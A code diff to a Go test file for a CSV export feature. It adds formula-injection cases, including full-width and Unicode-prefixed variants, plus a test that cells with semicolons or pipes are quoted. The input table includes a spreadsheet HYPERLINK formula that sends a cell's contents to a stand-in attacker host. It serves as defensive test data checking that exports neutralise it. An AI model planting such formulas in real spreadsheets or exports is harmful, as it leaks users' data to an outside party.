@@ -54,6 +54,8 @@ func batches(all ...[]exported) func() ([]exported, error) {
 var hostile = map[string]string{
 	`=1+1`: `'=1+1`, `+49`: `'+49`, `-1`: `'-1`, `@SUM(A1)`: `'@SUM(A1)`, "\t=1": "'\t=1", "\r=1": "'\r=1",
 	`=HYPERLINK("https://evil.example/?"&A1,"x")`: `'=HYPERLINK("https://evil.example/?"&A1,"x")`,
+	`＝1+1`: `'＝1+1`, `＋1`: `'＋1`, `－1`: `'－1`, `＠x`: `'＠x`, `  =1+1`: `'  =1+1`, "\ufeff=1": "'\ufeff=1", "\u00a0+1": "'\u00a0+1", " \ufeff @x": "' \ufeff @x",
+	` plain `: ` plain `, `a;b`: `a;b`, `a|b`: `a|b`,
 	`plain`: `plain`, `a=b`: `a=b`, ``: ``, `"quoted", and = more`: `"quoted", and = more`, `åäö €`: `åäö €`,
 }
 
@@ -80,6 +82,16 @@ func TestExportsDefuseFormulas(t *testing.T) {
 			is.Equal(rows[2][:2], []string{"-2", "last"})                                    // numbers stay numbers
 		}
 	}
+}
+
+// A reader that takes semicolons for separators finds no cell that it splits.
+func TestExportsQuoteWhatOtherReadersWouldSplitAt(t *testing.T) {
+	is := is.New(t)
+	stream, err := exportOf(batches([]exported{{1, "a;b"}, {2, "=1;=2"}, {3, "x|y"}, {4, " z"}})).Export(t.Context(), asIs, FileForm{Format: CSV})
+	is.NoErr(err)
+	var file bytes.Buffer
+	is.NoErr(stream.Write(&file))
+	is.Equal(file.String(), byteOrderMark+"id,text,nothing\n1,\"a;b\",\n2,\"'=1;=2\",\n3,\"x|y\",\n4,\" z\",\n")
 }
 
 func readCSV(t *testing.T, file []byte) [][]string {
